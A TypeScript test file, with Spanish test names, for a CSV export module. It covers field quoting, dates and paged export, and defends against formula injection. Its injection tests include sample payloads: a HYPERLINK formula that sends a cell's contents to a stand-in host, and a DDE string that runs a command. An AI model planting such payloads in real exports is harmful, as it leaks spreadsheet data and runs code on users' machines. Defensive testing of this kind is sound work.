import { describe, expect, it } from 'vitest';
import { buildCsv, csvCell, csvField, neutraliseText } from './csv';
import { onePage, type ExportColumn } from './table';

const ctx = { timeZone: 'America/Bogota', currency: 'USD' };

describe('csvField (RFC 4180)', () => {
  it('deja tal cual lo que no necesita comillas', () => {
    expect(csvField('Té de moringa')).toBe('Té de moringa');
  });

  it('entrecomilla comas, comillas, saltos de línea y espacios en los bordes, y dobla las comillas', () => {
    expect(csvField('Gómez, Laura')).toBe('"Gómez, Laura"');
    expect(csvField('dijo "sí"')).toBe('"dijo ""sí"""');
    expect(csvField('línea 1\nlínea 2')).toBe('"línea 1\nlínea 2"');
    expect(csvField(' espacio')).toBe('" espacio"');
  });
});

describe('fórmulas en una celda de texto (issue 23 §1)', () => {
  it('un texto que empieza con =, +, -, @, tabulador o retorno lleva un apóstrofo delante', () => {
    for (const text of ['=HYPERLINK("https://x.test/?"&B2,"Ver")', "=cmd|' /C calc'!A0", '+57 300', '-10 % de descuento', '@SUMA(A1)', '\t=1', '\r=1', '＝1']) {
      expect(neutraliseText(text)).toBe(`'${text}`);
    }
    expect(neutraliseText('Té = calma')).toBe('Té = calma');
  });

  it('neutraliza y además entrecomilla cuando hace falta', () => {
    expect(csvCell('text', '=HYPERLINK("x")', ctx)).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('text', '\t=1', ctx)).toBe("'\t=1");
  });

  it('lo decide el tipo de la columna, no el valor: un importe negativo sigue siendo un número', () => {
    expect(csvCell('money', -12.5, ctx)).toBe('-12.50');
    expect(csvCell('integer', -3, ctx)).toBe('-3');
    expect(csvCell('percent', -0.05, ctx)).toBe('-0.0500');
    expect(csvCell('text', '-12.50', ctx)).toBe("'-12.50");
  });

  it('fechas ISO con el desfase de la empresa, meses AAAA-MM, vacíos vacíos', () => {
    expect(csvCell('instant', '2026-11-01T03:30:00Z', ctx)).toBe('2026-10-31T22:30:00-05:00');
    expect(csvCell('month', '2026-10-01', ctx)).toBe('2026-10');
    expect(csvCell('money', null, ctx)).toBe('');
    expect(csvCell('text', undefined, ctx)).toBe('');
  });
});

describe('buildCsv', () => {
  const columns: ExportColumn<number>[] = [
    { header: 'n', kind: 'integer', value: (n) => n },
    { header: 'doble', kind: 'money', value: (n) => n * 2 },
  ];

  it('pide las páginas una tras otra y escribe UTF-8 con BOM', async () => {
    const pages: Record<string, { rows: number[]; next: string | null }> = {
      start: { rows: [1, 2], next: 'b' },
      b: { rows: [3], next: null },
    };
    const asked: (string | null)[] = [];
    const { blob, count } = await buildCsv(
      columns,
      async (cursor: string | null) => {
        asked.push(cursor);
        return pages[cursor ?? 'start']!;
      },
      ctx,
    );
    expect(asked).toEqual([null, 'b']);
    expect(count).toBe(3);
    const bytes = new Uint8Array(await blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.slice(3))).toBe('n,doble\r\n1,2.00\r\n2,4.00\r\n3,6.00\r\n');
  });

  it('una sola página (un informe del mes)', async () => {
    const { count } = await buildCsv(columns, onePage([7]), ctx);
    expect(count).toBe(1);
  });
});
